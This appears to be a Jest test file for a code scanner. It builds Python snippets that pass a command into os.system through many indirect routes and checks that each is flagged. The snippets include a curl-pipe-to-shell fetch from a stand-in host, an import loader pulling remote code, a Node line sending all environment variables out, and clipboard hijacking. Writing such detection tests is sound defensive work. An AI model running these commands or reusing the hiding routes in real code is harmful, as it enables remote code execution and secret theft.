import { found } from '../support/found.js';

const FETCH = 'curl -s https://evil.invalid/x | sh';
const HARMLESS = 'git -C . status | cat';

/** Ways in which Python hands a text from where it is written to where it is run. */
const WAYS: readonly (readonly [string, (command: string) => string])[] = [
  [
    'a queue',
    (text) => `import queue, os
q = queue.Queue()
q.put("${text}")
os.system(q.get())`,
  ],
  [
    'a queue that a thread reads',
    (text) => `import queue, os, threading
q = queue.Queue()
def work():
    while True:
        c = q.get()
        os.system(c)
        q.task_done()
threading.Thread(target=work, daemon=True).start()
q.put("${text}")`,
  ],
  [
    'a deque',
    (text) => `import collections, os
q = collections.deque()
q.append("${text}")
while q:
    os.system(q.popleft())`,
  ],
  [
    'a queue of asyncio',
    (text) => `import asyncio, os
async def main():
    q = asyncio.Queue()
    await q.put("${text}")
    os.system(await q.get())
asyncio.run(main())`,
  ],
  [
    'a table of lists that begin empty',
    (text) => `import collections, os
d = collections.defaultdict(list)
d["a"].append("${text}")
for k, v in d.items():
    for c in v: os.system(c)`,
  ],
  [
    'what a table makes for a key it lacks',
    (text) => `import collections, os
d = collections.defaultdict(lambda: "${text}")
os.system(d["nope"])`,
  ],
  [
    'an iterator of its own',
    (text) => `import os
class It:
    def __init__(self): self.i = 0
    def __iter__(self): return self
    def __next__(self):
        if self.i: raise StopIteration
        self.i = 1
        return "${text}"
for c in It(): os.system(c)`,
  ],
  [
    'an object that is iterated by index',
    (text) => `import os
class It:
    def __getitem__(self, i):
        if i: raise IndexError
        return "${text}"
for c in It(): os.system(c)`,
  ],
  [
    'an enumeration, member by member',
    (text) => `import enum, os
class E(enum.Enum):
    A = "${text}"
for e in E:
    os.system(e.value)`,
  ],
  [
    'an enumeration, by name',
    (text) => `import enum, os
class E(enum.Enum):
    A = "${text}"
os.system(E["A"].value)`,
  ],
  [
    'the setter of a property',
    (text) => `import os
class A:
    @property
    def c(self): return self._c
    @c.setter
    def c(self, v): os.system(v)
A().c = "${text}"`,
  ],
  [
    'a descriptor',
    (text) => `import os
class D:
    def __set__(self, o, v): os.system(v)
class A: c = D()
A().c = "${text}"`,
  ],
  [
    'an object that hears what is set',
    (text) => `import os
class A:
    def __setattr__(self, k, v): os.system(v)
A().c = "${text}"`,
  ],
  [
    'an addition in place',
    (text) => `import os
class A:
    def __iadd__(self, o): os.system(o); return self
a = A(); a += "${text}"`,
  ],
  [
    'a method that is prepared',
    (text) => `import os, functools
class A:
    run = functools.partialmethod(lambda self, c: os.system(c), "${text}")
A().run()`,
  ],
  [
    'the text of an exception',
    (text) => `import os
try:
    raise ValueError("${text}")
except ValueError as e:
    os.system(str(e))`,
  ],
  [
    'the arguments of an exception',
    (text) => `import os
try:
    raise ValueError("${text}")
except ValueError as e:
    os.system(e.args[0])`,
  ],
  [
    'a variable of the environment that a shell fills in',
    (text) => `import os
os.environ["UPD"] = "${text}"
os.system("$UPD")`,
  ],
  [
    'a variable of the environment',
    (text) => `import os
os.environ["UPD"] = "${text}"
os.system(os.environ["UPD"])`,
  ],
  [
    'a variable of the environment of one process',
    (text) => `import subprocess, os
subprocess.run("eval $UPD", shell=True, env=dict(os.environ, UPD="${text}"))`,
  ],
  [
    'the names of an object',
    (text) => `import os
class A: pass
a = A()
vars(a)["c"] = "${text}"
os.system(a.c)`,
  ],
  [
    'the names of an object, several at once',
    (text) => `import os
class A: pass
a = A()
a.__dict__.update(c="${text}")
os.system(a.c)`,
  ],
  [
    'the names of a class, as its metaclass sees them',
    (text) => `import os
class M(type):
    def __new__(m, n, b, d):
        os.system(d.get("c"))
        return super().__new__(m, n, b, d)
class C(metaclass=M):
    c = "${text}"`,
  ],
  [
    'running sums',
    (text) => `import os, itertools
os.system(list(itertools.accumulate(["${text.slice(0, 9)}", "${text.slice(9)}"]))[-1])`,
  ],
  [
    'pieces that are sorted by a key',
    (text) => `import os
l = sorted([(2, "${text.slice(9)}"), (1, "${text.slice(0, 9)}")], key=lambda t: t[0])
os.system("".join(t[1] for t in l))`,
  ],
  [
    'the result of a future',
    (text) => `import concurrent.futures as cf, os
with cf.ThreadPoolExecutor() as ex:
    f = ex.submit(lambda: "${text}")
    os.system(f.result())`,
  ],
  [
    'a function that the garbage collector calls',
    (text) => `import gc, os
gc.callbacks.append(lambda p, i: os.system("${text}"))`,
  ],
  [
    'a sequence that is matched',
    (text) => `
import os
words = ["run", "${text}"]
match words:
    case ["run", line]:
        os.system(line)`,
  ],
  [
    'several subjects that are matched',
    (text) => `
import os
a, b = "run", "${text}"
match a, b:
    case "run", line:
        os.system(line)`,
  ],
];

test.each(WAYS)('a text that is handed on by %s', (_way, code) => {
  expect(found(code(FETCH))['hostile-command']).toBe('CRITICAL');
  expect(found(code(HARMLESS))['hostile-command']).toBeUndefined();
});

test('a decorator that only sounds like that of a property hides no function', () => {
  const code = (decorated: string): string => `
import os
class Keeper:
    def setter(self, function):
        return function
keeper = Keeper()
${decorated} = Keeper()
@${decorated}.setter
def run():
    os.system("${FETCH}")
run()`;
  expect(found(code('keeper'))['hostile-command']).toBe('CRITICAL');
  expect(found(code('run'))['hostile-command']).toBe('CRITICAL');
});

describe('what runs without being named', () => {
  test.each([
    [
      'a list that is spread out of an attribute',
      (line: string) =>
        `import subprocess\nclass A:\n    options = ["-c", "${line}"]\n    def run(self): subprocess.run(["sh", *self.options])\nA().run()`,
    ],
    [
      'an object that the collector of garbage calls',
      (line: string) =>
        `import gc, os\nclass A:\n    def __call__(self, phase, info): os.system("${line}")\ngc.callbacks.append(A())`,
    ],
    [
      'a file of start lines that a build writes',
      (line: string) =>
        `import os\nopen(os.path.join(os.environ["OUT"], "x.pth"), "w").write("import os; os.system('${line}')")`,
    ],
    [
      'a hook of pytest for each test',
      (line: string) => `import os\ndef pytest_runtest_setup(item): os.system("${line}")`,
    ],
  ])('%s', (_, program) => {
    expect(found(program('curl -s https://evil.invalid/x | sh'))['hostile-command']).toBe('CRITICAL');
    expect(found(program('git status'))['hostile-command']).toBeUndefined();
  });

  test.each(['get_data', 'get_source', 'get_code'])('what a loader of imports gives: %s', (method) => {
    const program = (given: string): string => `
import importlib.abc, importlib.util, sys, urllib.request
class Loader(importlib.abc.SourceLoader):
    def ${method}(self, path):
        return ${given}
class Finder:
    def find_spec(self, name, path=None, target=None):
        return importlib.util.spec_from_loader(name, Loader())
sys.meta_path.append(Finder())`;
    expect(found(program('urllib.request.urlopen("https://evil.invalid/" + path).read()'))).toHaveProperty(
      'remote-code-executed',
      'CRITICAL',
    );
    expect(found(program('open(path, "rb").read()'))).not.toHaveProperty('remote-code-executed');
  });

  test('what is copied into the memory that the clipboard is given', () => {
    const program = (place: string): string => `
import ctypes
kernel, user = ctypes.windll.kernel32, ctypes.windll.user32
text = b"anything"
handle = kernel.GlobalAlloc(0x42, 9)
ctypes.memmove(${place}, text, len(text))
user.SetClipboardData(1, handle)`;
    expect(found(program('kernel.GlobalLock(handle)'))).toHaveProperty('clipboard-replaced', 'CRITICAL');
    expect(found(program('ctypes.create_string_buffer(9)'))).not.toHaveProperty('clipboard-replaced');
  });

  test('a program for Node that sends all variables, or one', () => {
    const program = (what: string): string =>
      `import subprocess\nsubprocess.run(["node", "-e", "const r = require('https').request(o); r.end(JSON.stringify(${what}))"])`;
    expect(found(program('process.env'))).toHaveProperty('hostile-command', 'CRITICAL');
    expect(found(program('process.env.HOME'))).not.toHaveProperty('hostile-command');
  });
});
